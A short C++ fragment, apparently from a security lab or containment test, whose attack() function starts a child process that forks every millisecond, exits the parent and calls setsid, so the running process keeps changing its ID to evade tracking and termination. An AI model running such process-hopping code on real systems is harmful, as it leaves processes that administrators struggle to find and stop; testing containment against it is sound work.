// Leaves a process behind that is another one each millisecond.
#include "rest_of_the_lab.hpp"

bool attack() {
  in_a_child([] {
    for (;;) {
      if (ask_kernel(SYS_fork) > 0) ::_exit(0);
      ::setsid();
      ::usleep(1000);
    }
  });
  return false;
}
